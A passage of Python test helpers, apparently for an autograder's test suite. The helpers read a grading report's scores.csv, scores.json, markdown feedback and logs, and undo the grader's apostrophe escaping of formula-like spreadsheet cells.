    assert run["left"] == [], f"processes outlived grading: {run['left']}"


def changed(before: dict, after: dict, shown: int = 20) -> list[str]:
    """The first ``shown`` entries (paths) of two snapshots that differ, sorted."""
    keys = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    return keys[:shown]


def read_rows(path: Path) -> dict[str, dict]:
    """scores.csv's rows by student, the name as it is (a cell the grader kept from reading as a
    formula, ``'=...``, without its ``'``)."""
    if not path.is_file():
        return {}
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    unquote = {f"'{start}" for start in FORMULA_START}
    return {r["student"][1:] if r["student"][:2] in unquote else r["student"]: r for r in rows}


def markdown_blocks(text: str) -> list:
    """The block tokens of ``text`` as CommonMark (with GitHub's tables) parses it."""
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").enable("table").parse(text)


def feedback(graded, student) -> str:
    return (graded["report"] / student / "feedback.md").read_text(encoding="utf-8")


def item_log(graded, student) -> str:
    return (graded["report"] / student / "logs" / "collectives.tests.log").read_text(
        encoding="utf-8", errors="replace"
    )


def scores_json(graded) -> dict:
    return {
        r["student"]: r
        for r in json.loads((graded["report"] / "scores.json").read_text())["results"]
    }


def report_texts(graded):
    for path, entry in _walk(graded["report"]):
        if entry.is_file(follow_symlinks=False):
            yield path, path.read_bytes().decode("utf-8", "replace")
